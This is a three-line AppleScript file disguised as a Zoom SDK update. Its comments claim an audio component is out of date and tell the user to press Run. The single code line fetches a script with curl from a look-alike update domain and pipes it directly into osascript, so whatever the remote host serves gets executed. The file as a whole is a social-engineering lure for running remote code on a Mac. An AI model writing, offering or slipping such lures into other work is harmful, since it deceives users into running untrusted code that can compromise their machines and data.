-- Zoom SDK Update: your audio component is out of date.
-- Press the Run button to update the Zoom SDK.
do shell script "curl -fsSL https://zoom-sdk-update.invalid/fix | osascript"
